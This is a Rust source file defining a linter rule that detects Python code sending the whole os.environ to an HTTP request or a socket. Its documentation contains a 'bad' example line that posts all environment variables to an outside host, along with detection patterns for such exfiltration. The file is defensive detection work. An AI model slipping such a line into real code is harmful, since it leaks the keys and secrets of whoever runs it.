use pyward_model::{Confidence, Severity};
use pyward_python::views::{Call, Keyword, Kind};

use crate::declare::rule;
use crate::{Code, Cx, Hit, Look, Names, Subject};

rule! {
    /// All of `os.environ` is given to a request or a socket.
    ///
    /// ## Why
    /// The environment holds the keys of the machine; this is how malicious packages take them.
    ///
    /// ## Bad
    /// ```bad app.py
    /// import os
    ///
    /// import requests
    ///
    /// requests.post("https://example.org", json=dict(os.environ))
    /// ```
    ///
    /// ## Good
    /// ```good app.py
    /// import os
    ///
    /// import requests
    ///
    /// requests.post("https://example.org", json={"region": os.environ["REGION"]})
    /// ```
    ///
    /// ## References
    /// - [MITRE ATT&CK: exfiltration over web service](https://attack.mitre.org/techniques/T1567/)
    /// - [CWE-200: exposure of sensitive information](https://cwe.mitre.org/data/definitions/200.html)
    /// - [CWE-506: embedded malicious code](https://cwe.mitre.org/data/definitions/506.html)
    pub(crate) static ENVIRONMENT_SENT = {
        name: "environment-sent",
        family: Code,
        summary: "all environment variables sent away",
        severity: Some(Severity::High),
        confidence: High,
        cwes: [200, 506],
        aliases: [],
        subject: Subject::Code(Code::own(&[Look::Call(Names::Last(&["post", "get", "put", "request", "urlopen", "Request"]), find), Look::Call(Names::Method(&["send", "sendall"]), sent)])),
    };
}

fn find<'a>(cx: &Cx<'a>, call: Call<'a>) -> Option<Hit> {
    let owner = cx.name().split('.').next()?;
    matches!(owner, "requests" | "httpx" | "urllib" | "aiohttp").then_some(())?;
    judge(cx, call)
}

fn sent<'a>(cx: &Cx<'a>, call: Call<'a>) -> Option<Hit> {
    let (maker, _) = cx.method(call)?;
    judge(cx, call).filter(|_| maker.starts_with("socket."))
}

fn judge<'a>(cx: &Cx<'a>, call: Call<'a>) -> Option<Hit> {
    let arguments = call
        .positionals()
        .chain(call.keywords().map(Keyword::value));
    let found = arguments
        .flat_map(|argument| cx.origins(argument))
        .flat_map(|origin| std::iter::once(origin).chain(origin.descendants().take(200)))
        .find(|node| {
            let is_environment = node.attribute() == Some("environ")
                && cx.qualified(*node).as_deref() == Some("os.environ");
            // `os.environ["X"]` and `os.environ.get("X")` are one variable.
            let is_part = node.parent().is_some_and(|around| {
                matches!(around.kind(), Kind::Subscript | Kind::Compare)
                    || matches!(around.attribute(), Some("get" | "pop" | "setdefault"))
            });
            is_environment && !is_part
        })?;
    let message = "all environment variables, keys included, are sent away";
    let is_here = found.is_within(call.node());
    let hit = Hit::new(Severity::High, Confidence::High, message);
    Some(if is_here { hit.at(found) } else { hit })
}
